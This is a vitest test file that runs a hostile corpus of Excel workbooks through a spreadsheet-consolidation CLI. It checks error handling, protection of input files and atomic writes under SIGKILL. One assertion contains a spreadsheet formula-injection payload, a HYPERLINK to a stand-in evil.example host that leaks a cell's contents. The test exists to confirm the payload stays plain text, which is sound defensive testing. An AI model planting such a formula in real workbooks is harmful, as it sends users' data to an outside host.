// The hostile corpus through the real command line (bundled from src/cli/main.ts into a private
// file, so a concurrent `npm run build` cannot race it): one clear line naming the file, exit
// code 2, no stack trace; `consolidate` lists each hostile file and still consolidates the good
// ones; inputs are never written; a killed write leaves the previous output intact.
import { spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  copyFileSync,
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  watch,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { basename, dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { build } from "esbuild";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CORPUS, goodWorkbookBytes, writeCorpus } from "../../scripts/hostile-corpus.mjs";

const root = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
// A folder of its own: a consolidate-worker.js left beside it (the bench writes one in
// .cache/fiche-projet) would be picked up by the pool and run stale code.
const cli = join(root, "node_modules", ".cache", "fiche-projet", "hostile-cli", "cli.mjs");
const hasCli = existsSync(join(root, "src", "cli", "main.ts"));

let dir: string;
let corpusDir: string;
let paths: Record<string, string>;

const run = (args: string[]) =>
  spawnSync(process.execPath, [cli, ...args], {
    encoding: "utf8",
    timeout: 60_000,
    env: { ...process.env, NO_COLOR: "1" },
  });
const sha = (file: string) => createHash("sha256").update(readFileSync(file)).digest("hex");
const hashes = (folder: string) =>
  Object.fromEntries(readdirSync(folder).map((f) => [f, sha(join(folder, f))] as const));

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "fiche-hostile-cli-"));
  corpusDir = join(dir, "corpus");
  paths = await writeCorpus(corpusDir);
  if (!hasCli) return;
  mkdirSync(dirname(cli), { recursive: true });
  await build({
    entryPoints: [join(root, "src", "cli", "main.ts")],
    outfile: cli,
    bundle: true,
    platform: "node",
    format: "esm",
    target: "node20",
    packages: "external",
    logLevel: "error",
  });
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** The files that cannot be read at all (the guard refuses them, or exceljs does). */
const hostile = CORPUS.filter((e) => e.exit === 2);

describe.runIf(hasCli)("check on each hostile file", () => {
  it.each(hostile.map((e) => [e.file, e] as const))("%s: one line naming the file, exit 2, no stack", (_, entry) => {
    const file = paths[entry.file]!;
    const before = sha(file);
    const r = run(["check", file]);
    const lines = `${r.stdout}${r.stderr}`.split("\n").filter((l) => l.trim());
    expect(r.status).toBe(2);
    expect(r.signal).toBeNull();
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain(entry.file);
    expect(lines.join("\n")).not.toMatch(/^\s+at |Error:|node:internal/m);
    expect(sha(file)).toBe(before);
  });

  it("the same in English", () => {
    const r = run(["check", paths["sharedstrings-bomb.xlsx"]!, "--lang", "en"]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/zip bomb/);
  });

  it("the injection workbook is read, its title stays text in the JSON and in the report", async () => {
    const report = join(dir, "rapport-injection.xlsx");
    const r = run(["check", paths["injection.xlsx"]!, "--json", "-o", report]);
    expect([0, 1]).toContain(r.status);
    const doc = JSON.parse(r.stdout) as { project: { title: string } };
    expect(doc.project.title).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(report);
    const found: unknown[] = [];
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (String(cell.text).includes("HYPERLINK") || String(cell.text).includes("<script>")) found.push(cell.value);
        }),
      );
    }
    expect(found.length).toBeGreaterThan(0);
    for (const value of found) expect(typeof value).toBe("string");
  });
});

describe.runIf(hasCli)("an output that is an input is refused, even with --force", () => {
  it.each([
    ["the same path", (input: string, _: string) => input],
    [
      "a symbolic link to it",
      (input: string, d: string) => {
        symlinkSync(input, join(d, "lien.xlsx"));
        return join(d, "lien.xlsx");
      },
    ],
    [
      "a hard link to it",
      (input: string, d: string) => {
        linkSync(input, join(d, "dur.xlsx"));
        return join(d, "dur.xlsx");
      },
    ],
  ])("check -o %s", (_, outputOf) => {
    const d = mkdtempSync(join(dir, "self-"));
    const input = join(d, "projet.xlsx");
    copyFileSync(paths["injection.xlsx"]!, input);
    const before = sha(input);
    const r = run(["check", input, "-o", outputOf(input, d), "--force"]);
    expect(r.status).toBe(2);
    expect(sha(input)).toBe(before);
  });
});

describe.runIf(hasCli)("consolidate over the whole corpus plus a good workbook", () => {
  it("lists each hostile file in failures and consolidates the good ones; inputs unchanged", async () => {
    const folder = join(dir, "portfolio-in");
    mkdirSync(folder);
    for (const p of Object.values(paths)) copyFileSync(p, join(folder, basename(p)));
    writeFileSync(join(folder, "bon.xlsx"), await goodWorkbookBytes({ code: "BON-1" }));
    // What an interrupted write leaves behind, and an Office lock file: both ignored.
    writeFileSync(join(folder, ".portefeuille.xlsx.4242.tmp"), "partial");
    writeFileSync(join(folder, "~$bon.xlsx"), "lock");
    const before = hashes(folder);
    const out = join(dir, "portefeuille.xlsx");
    const r = run(["consolidate", folder, "-o", out, "--json"]);
    expect(r.stdout).not.toBe("");
    const doc = JSON.parse(r.stdout) as {
      projects: { file: string; code: string }[];
      failures: { file: string; message: string }[];
    };
    expect(doc.projects.map((p) => p.code).sort()).toEqual(["BON-1", "INJ-001"]);
    expect(doc.failures.map((f) => basename(f.file)).sort()).toEqual(hostile.map((e) => e.file).sort());
    for (const f of doc.failures) expect(f.message).not.toMatch(/\n|^\s+at /);
    expect([1, 2]).toContain(r.status);
    expect(r.stderr).not.toMatch(/^\s+at /m);
    expect(hashes(folder)).toEqual(before);
    expect(existsSync(out)).toBe(true);
  }, 240_000);
});

describe.runIf(hasCli)("an interrupted write", () => {
  it("SIGKILL during the write leaves the previous portfolio byte-identical or a complete new one", async () => {
    const folder = join(dir, "many");
    mkdirSync(folder);
    for (let i = 0; i < 40; i++) {
      writeFileSync(join(folder, `p${i}.xlsx`), await goodWorkbookBytes({ code: `P-${i}`, title: `Projet ${i}` }));
    }
    const outDir = join(dir, "out");
    mkdirSync(outDir);
    const out = join(outDir, "portefeuille.xlsx");
    // The previous portfolio: a real one, of three projects only.
    const few = join(dir, "few");
    mkdirSync(few);
    for (let i = 0; i < 3; i++) copyFileSync(join(folder, `p${i}.xlsx`), join(few, `p${i}.xlsx`));
    expect(run(["consolidate", few, "-o", out]).status).toBe(0);
    const previous = readFileSync(out);
    let killedMidWrite = 0;
    for (let attempt = 0; attempt < 3; attempt++) {
      writeFileSync(out, previous);
      const child = spawn(process.execPath, [cli, "consolidate", folder, "-o", out], { stdio: "ignore" });
      const watcher = watch(outDir, (_, name) => {
        if (name && String(name).endsWith(".tmp") && child.exitCode === null) {
          child.kill("SIGKILL");
        }
      });
      const [code, signal] = await new Promise<[number | null, string | null]>((res) =>
        child.on("exit", (c, s) => res([c, s])),
      );
      watcher.close();
      const now = readFileSync(out);
      if (signal === "SIGKILL") {
        killedMidWrite++;
        expect(now.equals(previous)).toBe(true);
      } else {
        // The write won the race: the output must then be a whole, readable workbook.
        expect(code).toBe(0);
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(now as unknown as ExcelJS.Buffer);
        expect(wb.worksheets.length).toBeGreaterThan(0);
      }
      // A temp file left by the kill is hidden (`.name.tmp`), never an .xlsx that consolidate would read.
      for (const f of readdirSync(outDir).filter((f) => f !== "portefeuille.xlsx")) expect(f).toMatch(/^\..*\.tmp$/);
    }
    // Whether a kill lands between the temp file and the rename is a race: logged, not asserted
    // (the deterministic version is the next test).
    console.info(`interrupted write: ${killedMidWrite}/3 kills landed mid-write`);
  }, 240_000);

  it("SIGKILL after the temp file is written, before the rename: previous output intact, temp hidden", async () => {
    const child = join(dirname(cli), "atomic-child.mjs");
    await build({
      stdin: {
        contents: `import { writeFileAtomic } from ${JSON.stringify(join(root, "src", "node", "atomicWrite.ts"))};
const target = process.argv[2];
await writeFileAtomic(target, new Uint8Array(4_000_000).fill(7), {
  beforeRename: async (temp) => { process.stdout.write(temp + "\\n"); await new Promise(() => setInterval(() => {}, 1000)); },
});`,
        resolveDir: root,
        loader: "ts",
      },
      outfile: child,
      bundle: true,
      platform: "node",
      format: "esm",
      packages: "external",
      logLevel: "error",
    });
    const outDir = join(dir, "atomic");
    mkdirSync(outDir);
    const out = join(outDir, "portefeuille.xlsx");
    writeFileSync(out, "previous");
    const proc = spawn(process.execPath, [child, out], { stdio: ["ignore", "pipe", "inherit"] });
    const temp = await new Promise<string>((res) => proc.stdout.once("data", (d: Buffer) => res(d.toString().trim())));
    expect(readFileSync(temp).length).toBe(4_000_000);
    proc.kill("SIGKILL");
    await new Promise((res) => proc.on("exit", res));
    expect(readFileSync(out, "utf8")).toBe("previous");
    expect(basename(temp)).toMatch(/^\.portefeuille\.xlsx\..*\.tmp$/);
  }, 240_000);
});
